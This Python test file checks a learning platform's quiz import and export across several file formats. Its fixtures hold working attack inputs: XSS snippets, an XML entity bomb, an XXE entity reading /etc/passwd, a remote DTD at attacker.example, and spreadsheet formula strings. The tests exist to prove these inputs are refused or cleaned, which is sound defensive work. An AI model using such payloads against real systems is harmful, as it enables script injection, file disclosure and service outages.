"""Questions to a file and back: what each format keeps, and what it refuses."""

import json
from base64 import b64encode
from io import BytesIO

import pytest
from django.core.files.base import ContentFile
from hypothesis import given
from hypothesis import strategies as some
from PIL import Image

from assessments.domain.drafts import Draft, Picture
from assessments.interchange import FORMATS, Refused, guess, markup, take
from assessments.interchange.reading import MOST_BYTES, MOST_QUESTIONS
from assessments.interchange.writing import accepted_range
from lms.core.spreadsheets import neutral


def png(colour: str = "teal", size: tuple[int, int] = (4, 3)) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def draft(kind: str, *, rows=None, text: str = "<p>What <b>now</b>?</p>", **values):
    return Draft(
        kind=kind,
        name="A-Q1",
        stem=[{"type": "text", "value": text}],
        values={
            "marks": "1",
            "general_feedback": "<p>Calm <i>first</i>.</p>",
            "outcomes": "A1, A2",
            "difficulty": 3,
            "intensity": 0,
            "content_note": "",
            "shuffle": True,
            **values,
        },
        rows=rows or {},
        tags=["calm", "first steps"],
        language="en",
    )


def choices(*texts: str, right: set[int]):
    return {
        "choices": [
            {"text": t, "is_correct": n in right, "feedback": f"About {t}"}
            for n, t in enumerate(texts)
        ]
    }


SINGLE = draft("single_choice", rows=choices("Insist", "Stay {near} = ~#:", right={1}))
MULTIPLE = draft(
    "multiple_choice",
    rows=choices("Few words", "Threats", "Space", "1 < 2 & 3", right={0, 2, 3}),
    scoring="partial",
    shuffle=False,
    marks="3",
)
SET = draft(
    "multiple_choice",
    rows=choices("a", "b", "c", right={0, 1}),
    scoring="all_or_nothing",
)
TRUE = draft("true_false", is_true=True)
NUMBER = draft("numeric", value="12.5", low="12", high="13", unit="h")
LOPSIDED = draft("numeric", value="19.2", low="19.2", high="19.3", unit="")
PAIRS = [{"left": "Bag: packed", "right": "I may go"}, {"left": "B", "right": "C"}]
MATCHING = draft("matching", rows={"pairs": PAIRS, "distractors": []})
DISTRACTING = draft(
    "matching", rows={"pairs": PAIRS, "distractors": [{"text": "I am bored"}]}
)
ORDERING = draft(
    "ordering",
    rows={"steps": [{"text": t} for t in ("Listen", "Thank", "Explain")]},
    scoring="adjacent",
)
EXACTLY = draft(
    "ordering", rows={"steps": [{"text": t} for t in "cab"]}, scoring="exact"
)
TEXT = draft(
    "short_text",
    guidance="3 = words\n1 = date",
    model_answer="Finish the year.",
    max_length=1500,
)
LONG = draft(
    "free_text",
    rows={
        "criteria": [
            {
                "title": "Own words",
                "guidance": "",
                "rows": {
                    "levels": [
                        {"text": "Missing", "points": "0"},
                        {"text": "There", "points": "2"},
                    ]
                },
            }
        ]
    },
    guidance="Read twice.",
    model_answer="A page.",
    max_length=4000,
)
NO_RUBRIC = {"guidance": "", "model_answer": "", "max_length": 1500}
FORGIVING = dict.fromkeys(
    ("ignores_case", "ignores_diacritics", "ignores_script"), True
)
WORD = draft(
    "short_text",
    rows={
        "accepted": [
            {"text": "mandat*", "worth": 100, "feedback": "Yes."},
            {"text": "a duty = {law}", "worth": 50, "feedback": ""},
        ]
    },
    **NO_RUBRIC,
    **FORGIVING,
)
UNITS = draft(
    "numeric",
    rows={"units": [{"unit": "min", "factor": "1/60"}, {"unit": "d", "factor": "24"}]},
    value="12.5",
    tolerance_kind="relative",
    tolerance="4",
    low=None,
    high=None,
    unit="h",
)
PLACES = draft(
    "ordering", rows={"steps": [{"text": t} for t in "cab"]}, scoring="position"
)
KPRIM = draft("kprim", rows=choices("One", "Two", "Three", "Four", right={0, 3}))
HINTED = draft("true_false", rows={"hints": [{"text": "Look & see"}]}, is_true=False)
CLOZE = draft(
    "cloze",
    rows={
        "gaps": [
            {
                "kind": "text",
                "right": "calm\nqu*et ~ {x}",
                "wrong": "",
                "tolerance": None,
                "unit": "",
                "feedback": "First #1.",
            },
            {
                "kind": "number",
                "right": "12",
                "wrong": "",
                "tolerance": "0.5",
                "unit": "",
                "feedback": "",
            },
            {
                "kind": "choice",
                "right": "stay",
                "wrong": "leave\ninsist",
                "tolerance": None,
                "unit": "",
                "feedback": "Near.",
            },
        ]
    },
    passage="Be [[1]] for [[2]] minutes.\n\nThen [[3]] & wait.",
    **FORGIVING,
)
WORDS = draft(
    "word_drop",
    rows={
        "words": [{"text": "calm"}, {"text": "near"}, {"text": "calm"}],
        "extra_words": [{"text": "loud"}],
    },
    passage="Be [[1]], stay [[2]], be [[3]].",
)
ALL = {
    "single": SINGLE,
    "multiple": MULTIPLE,
    "all-or-nothing": SET,
    "true": TRUE,
    "number": NUMBER,
    "lopsided": LOPSIDED,
    "matching": MATCHING,
    "distractors": DISTRACTING,
    "ordering": ORDERING,
    "exact-order": EXACTLY,
    "text": TEXT,
    "long-text": LONG,
    "word": WORD,
    "units": UNITS,
    "places": PLACES,
    "kprim": KPRIM,
    "hinted": HINTED,
    "cloze": CLOZE,
    "words": WORDS,
}


def back(each: Draft, code: str) -> Draft:
    """Return the draft as it comes back from a file in the format."""
    found = FORMATS[code].read(FORMATS[code].write([each]))
    assert [f.refusal for f in found] == [""]
    return found[0].draft


def said(row):
    """Return what a row says; what is empty or not ticked need not be said."""
    return {
        name: value for name, value in row.items() if value not in (None, "", False)
    }


def meaning(each: Draft):
    """Return what is asked and how it is marked, as far as its kind says it."""
    values = {
        n: each.values.get(n)
        for n in ("scoring", "is_true", "unit", "passage", "ignores_case")
        if n in each.values
    }
    if each.kind in ("short_text", "cloze"):
        values["ignores_case"] = each.values.get("ignores_case", True)
    numbers = {}
    if each.kind == "numeric":
        low, high = map(float, accepted_range(each))
        numbers = {"value": float(each.values["value"]), "low": low, "high": high}
    rows = {name: [said(row) for row in rows] for name, rows in each.rows.items()}
    rows = {name: listed for name, listed in rows.items() if listed}
    return each.kind, rows, values, numbers


# Which formats can say which drafts, and what may come back other than it was.
SAYS = {
    "json": set(ALL),
    "moodle": set(ALL),
    "csv": set(ALL) - {"cloze", "words"},
    "gift": {
        *("single", "multiple", "true", "number", "lopsided", "matching", "text"),
        *("word", "units", "hinted"),
    },
    "aiken": {"single"},
}


@pytest.mark.parametrize("code", SAYS)
@pytest.mark.parametrize("name", ALL)
def test_what_a_format_can_say_comes_back_with_its_meaning(code, name):
    each = ALL[name]
    fit = FORMATS[code].fit(each)

    assert fit.fits is (name in SAYS[code])
    if not fit.fits:
        return
    kind, rows, values, numbers = meaning(each)
    again_kind, again_rows, again_values, again_numbers = meaning(back(each, code))
    assert again_kind == kind
    if code == "aiken":
        for row in rows["choices"]:
            row.pop("feedback")
        assert again_rows == rows
        return
    if code == "gift":
        values.pop("unit", None)
    for loss, lost in (("Hints", "hints"), ("Unit", "units")):
        if loss in fit.losses:
            rows.pop(lost, None)
    if any("rubric" in loss for loss in fit.losses):
        assert rows.pop("criteria")
        assert (
            "Own words: Missing (0); There (2)" in back(each, code).values["guidance"]
        )
    assert again_rows == rows
    assert {n: again_values.get(n) for n, v in values.items() if v != ""} == {
        n: v for n, v in values.items() if v != ""
    }
    if any("right number" in loss for loss in fit.losses):
        assert numbers.pop("value") != again_numbers.pop("value")
    assert again_numbers == numbers


@pytest.mark.parametrize("code", ["json", "moodle", "csv", "gift"])
def test_labels_and_marks_come_back(code):
    again = back(MULTIPLE, code)

    assert again.name == "A-Q1"
    assert again.tags == ["calm", "first steps"]
    assert again.values["outcomes"] == "A1, A2"
    assert again.values["difficulty"] == 3
    if code != "gift":  # which says so
        assert (float(again.marks), again.values["shuffle"]) == (3, False)
    else:
        assert "Marks" in FORMATS[code].fit(MULTIPLE).losses
    html = "".join(again.texts())
    assert markup.plain(html) == "What now?"
    assert ("<b>now</b>" in html) is (code != "csv")
    assert ("Formatting" in FORMATS["csv"].fit(MULTIPLE).losses) is True


@pytest.mark.parametrize("code", ["moodle", "gift"])
def test_rich_text_comes_back_as_it_was(code):
    again = back(SINGLE, code)

    assert again.texts() == SINGLE.texts()
    assert again.values["general_feedback"] == SINGLE.values["general_feedback"]


def test_the_guidance_for_markers_comes_back():
    for code in ("moodle", "csv", "json"):
        again = back(TEXT, code)
        assert again.values["guidance"] == "3 = words\n1 = date"
        assert again.values["model_answer"] == "Finish the year."
    losses = FORMATS["gift"].read(FORMATS["gift"].write([TEXT]))[0].losses
    assert "guidance" in losses[0]


words = some.text(
    some.characters(
        min_codepoint=33, max_codepoint=0x45F, exclude_categories=["C", "Z"]
    ),
    min_size=1,
    max_size=12,
).map(lambda text: " ".join(text.split()))


@pytest.mark.parametrize("code", ["moodle", "gift", "csv", "json"])
@given(texts=some.lists(words, min_size=2, max_size=5, unique=True), named=words)
def test_any_words_come_back(code, texts, named):
    each = draft("single_choice", rows=choices(*texts, right={0}))
    each.name = named

    again = back(each, code)

    assert [row["text"] for row in again.rows["choices"]] == texts
    assert [row["is_correct"] for row in again.rows["choices"]] == [
        n == 0 for n in range(len(texts))
    ]
    assert again.name == named


@given(low=some.decimals(-1000, 1000, places=3), width=some.decimals(0, 10, places=3))
def test_accepted_ranges_come_back(low, width):
    each = draft(
        "numeric", value=str(low), low=str(low), high=str(low + width), unit=""
    )

    for code in ("moodle", "gift", "csv", "json"):
        _kind, _rows, _values, numbers = meaning(back(each, code))
        assert numbers["low"] == pytest.approx(float(low), abs=1e-6)
        assert numbers["high"] == pytest.approx(float(low + width), abs=1e-6)


def with_picture(data: bytes, *, alt: str = "A calm room") -> Draft:
    each = draft("true_false", is_true=True)
    each.pictures["room.png"] = Picture(name="room.png", data=data, title="Room")
    each.stem = [
        {"type": "text", "value": "<p>Look.</p>"},
        {
            "type": "image",
            "value": {
                "picture": "room.png",
                "alt": alt,
                "decorative": not alt,
                "caption": "",
            },
        },
        {"type": "text", "value": "<p>Is it calm?</p>"},
    ]
    return each


@pytest.mark.parametrize("code", ["moodle", "json"])
@pytest.mark.parametrize("alt", ["A calm room", ""])
def test_images_come_along_with_their_alt_text(code, alt):
    each = with_picture(png(), alt=alt)

    again = back(each, code)

    assert again.stem == each.stem
    assert again.pictures["room.png"].data == png()
    assert "Images" in FORMATS["gift"].fit(each).losses


@pytest.mark.parametrize("code", ["moodle", "json"])
@pytest.mark.parametrize(
    "data",
    [b"<svg onload='alert(1)'/>", b"\x89PNG broken", png(size=(10_000, 9_000))],
    ids=["svg", "broken", "too-many-pixels"],
)
def test_what_is_not_a_harmless_image_keeps_its_question_out(code, data):
    found = FORMATS[code].read(FORMATS[code].write([with_picture(data), TRUE]))

    assert found[0].draft is None
    assert "image" in found[0].refusal.lower()
    assert found[1].draft is not None


MOODLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="category"><category><text>$course$/top</text></category></question>
  <question type="multichoice">
    <name><text>Half</text></name>
    <questiontext format="html"><text><![CDATA[<script>alert(1)</script>
      <h2 onclick="x()">Which <strong>one</strong>?</h2>
      <a href="javascript:alert(1)">bad</a> <a href="https://example.org/">good</a>
      <table><tr><td>cell</td></tr></table><img src="http://example.org/x.png" alt="Far">
    ]]></text></questiontext>
    <single>true</single>
    <answer fraction="100"><text>Right</text><feedback><text></text></feedback></answer>
    <answer fraction="50"><text>Half</text><feedback><text></text></feedback></answer>
  </question>
  <question type="calculated"><name><text>Sums</text></name></question>
  <question type="description"><name><text>Read this</text></name></question>
</quiz>
"""


def test_moodle_questions_are_found_by_line_with_what_becomes_of_them():
    half, sums, read_this = FORMATS["moodle"].read(MOODLE)

    assert [half.line, sums.line, read_this.line] == [4, 15, 16]
    assert "calculated" in sums.refusal
    assert "without a question" in read_this.refusal
    assert any("part of the marks" in loss for loss in half.losses)
    assert any("x.png" in loss for loss in half.losses)
    assert any("tables" in loss for loss in half.losses)
    html = "".join(half.draft.texts())
    assert "<p>Which <b>one</b>?</p>" in html
    assert '<a href="https://example.org/">good</a>' in html
    for bad in ("script", "onclick", "javascript", "<h2", "<table", "<img"):
        assert bad not in html


def test_json_is_cleaned_too():
    document = json.loads(FORMATS["json"].write([SINGLE]))
    evil = '<p onclick="x()">Hi<script>alert(1)</script><img src=x onerror=y></p>'
    document["questions"][0]["stem"][0]["value"] = evil
    document["questions"][0]["values"]["general_feedback"] = evil
    document["questions"][0]["values"]["live"] = True

    (found,) = FORMATS["json"].read(json.dumps(document).encode())

    assert found.draft.texts() == ["<p>Hi</p>"]
    assert found.draft.values["general_feedback"] == "<p>Hi</p>"
    assert "live" not in found.draft.values


@given(some.text(alphabet="<>/abip=\"' &;!-onclickscript:javahref", max_size=60))
def test_cleaning_leaves_only_what_an_author_may_write(html):
    cleaned = markup.clean(html)

    left = markup.BeautifulSoup(cleaned, "html.parser")
    allowed = {"b", "i", "p", "br", "ul", "ol", "li", "a"}
    for tag in left.find_all(True):
        assert tag.name in allowed
        assert set(tag.attrs) <= ({"href"} if tag.name == "a" else set())
        assert str(tag.get("href", "https:")).split(":")[0] in {
            "http",
            "https",
            "mailto",
            "tel",
        }
    assert markup.clean(cleaned) == cleaned


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<quiz><question type="essay"><name><text>&c;</text></name></question></quiz>"""
OUTSIDE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><name><text>&x;</text></name></question></quiz>"""
REMOTE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "https://attacker.example/evil.dtd">
<quiz></quiz>"""


@pytest.mark.parametrize(
    ("code", "data", "refusal"),
    [
        ("moodle", BOMB, "entities"),
        ("moodle", OUTSIDE, "entities"),
        ("moodle", REMOTE, "entities"),
        ("moodle", b"<quiz><question></quiz>", "malformed"),
        ("moodle", b"<html></html>", "not_moodle"),
        ("moodle", b"<quiz>" + b"<a>" * 5000, "too_nested"),
        ("moodle", b"<quiz/>", "no_questions"),
        ("moodle", b"<quiz>" + b"<question type='x'/>" * (MOST_QUESTIONS + 1) + b"</quiz>", "too_many"),
        ("json", b"{]", "malformed"),
        ("json", b"[" * 100_000, "malformed"),
        ("json", b'{"format": NaN}', "malformed"),
        ("json", b'{"format": "other"}', "not_ours"),
        ("json", b'{"format": "sidro-questions", "version": 9}', "version"),
        ("gift", b"// nothing\n", "no_questions"),
        ("gift", b"PNG\x00\x81\x81", "not_text"),
        ("csv", b"a,b\n1,2\n", "no_columns"),
        ("csv", b'type,question\n"open', "malformed"),
        ("aiken", b"\n\n", "no_questions"),
    ],
)  # fmt: skip
def test_a_hostile_or_broken_file_is_refused_as_a_whole(code, data, refusal):
    with pytest.raises(Refused) as refused:
        FORMATS[code].read(data)

    assert refused.value.code == refusal
    assert str(refused.value)


class Endless:
    """A file that claims nothing and never ends."""

    read = 0

    def chunks(self, chunk_size=None):
        while True:
            self.read += chunk_size
            yield b" " * chunk_size


def test_a_huge_file_is_refused_without_being_held():
    file = Endless()

    with pytest.raises(Refused) as refused:
        take(file)

    assert refused.value.code == "too_large"
    assert file.read <= MOST_BYTES + 64 * 1024


@pytest.mark.parametrize(
    "start", [b"PK\x03\x04", b"\x1f\x8b", b"BZh", b"\xfd7zXZ", b"7z\xbc\xaf"]
)
def test_compressed_files_are_never_opened(start):
    with pytest.raises(Refused) as refused:
        take(ContentFile(start + b"\x00" * 100))

    assert refused.value.code == "compressed"


def test_gift_as_others_write_it():
    data = b"""// question: 1  name: Colour
::Colour:: What is calm {
  =Blue # Yes, calm.
  ~%50%Green
  ~Red \\= loud
####Colours matter.
}

The Earth is {T} round.

Twenty {#20:2}

Two plus two {
  =four
  =%50%4#Nearly
}

Only words.

Broken { =a ~b
"""
    colour, earth, twenty, four, only, broken = FORMATS["gift"].read(data)

    assert [f.line for f in (colour, earth, twenty, four, only, broken)] == [
        *(2, 9, 11, 13, 18, 20)
    ]
    assert [r["text"] for r in colour.draft.rows["choices"]] == [
        *("Blue", "Green", "Red = loud")
    ]
    assert colour.draft.values["general_feedback"] == "<p>Colours matter.</p>"
    assert colour.losses
    assert "_____ round." in earth.draft.texts()[0]
    assert meaning(twenty.draft)[3] == {"value": 20, "low": 18, "high": 22}
    assert four.draft.rows["accepted"] == [
        {"text": "four", "worth": 100, "feedback": ""},
        {"text": "4", "worth": 50, "feedback": "Nearly"},
    ]
    assert only.refusal
    assert broken.refusal


def test_aiken_names_what_is_wrong_in_which_line():
    data = b"""What is right?
A. This
B) That
ANSWER: B

No answer here
A. One
B. Two
Another
A. One
C. Two
ANSWER: C
"""
    right, without, lettered = FORMATS["aiken"].read(data)

    assert right.draft.rows["choices"][1]["is_correct"]
    assert (without.line, lettered.line) == (6, 9)
    assert "ANSWER" in without.refusal
    assert "A, B, C" in lettered.refusal


def test_a_table_in_central_european_windows_is_read():
    data = "type;question;right\ntrue_false;Šta važi?;true\nessay;x;\n".encode("cp1250")

    first, second = FORMATS["csv"].read(data)

    assert first.draft.name == "Šta važi?"
    assert (second.line, second.draft) == (3, None)


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "'quoted"])
def test_no_cell_is_a_formula(start):
    each = draft("single_choice", rows=choices(start, "b", right={0}))

    written = FORMATS["csv"].write([each]).decode()

    assert neutral(start).startswith("'")
    assert f",{start}" not in written
    assert back(each, "csv").rows["choices"][0]["text"] == start.strip()


@pytest.mark.parametrize("code", SAYS)
def test_the_format_is_guessed_from_the_file(code):
    each = SINGLE

    assert guess(FORMATS[code].write([each]), f"x.{FORMATS[code].suffix}").code == code


def test_base64_that_is_damaged_keeps_its_question_out():
    data = FORMATS["moodle"].write([with_picture(png())])
    damaged = data.replace(b64encode(png()), b"%%%")

    assert "damaged" in FORMATS["moodle"].read(damaged)[0].refusal


def test_a_cloze_as_moodle_writes_it():
    data = b"""<quiz><question type="cloze"><name><text>Town</text></name>
    <questiontext format="html"><text><![CDATA[<p>Belgrade is in
    {1:MULTICHOICE:=Serbia#Yes~%0%Slovenia~Austria} and has {2:NM:=2:0.5} rivers, one
    called {1:SA:Sava~=Danube}.</p>]]></text></questiontext></question>
    <question type="cloze"><name><text>Odd</text></name><questiontext><text>
    {1:MULTIRESPONSE:=a~=b}</text></questiontext></question>
    <question type="cloze"><name><text>None</text></name><questiontext><text>
    No gaps.</text></questiontext></question></quiz>"""

    town, odd, none = FORMATS["moodle"].read(data)

    assert town.draft.values["passage"] == (
        "Belgrade is in [[1]] and has [[2]] rivers, one called [[3]]."
    )
    assert [said(row) for row in town.draft.rows["gaps"]] == [
        {
            "kind": "choice",
            "feedback": "Yes",
            "right": "Serbia",
            "wrong": "Slovenia\nAustria",
        },
        {"kind": "number", "right": "2", "tolerance": "0.5"},
        {"kind": "text", "right": "Danube"},
    ]
    assert "not known" in odd.refusal
    assert "no gaps" in none.refusal
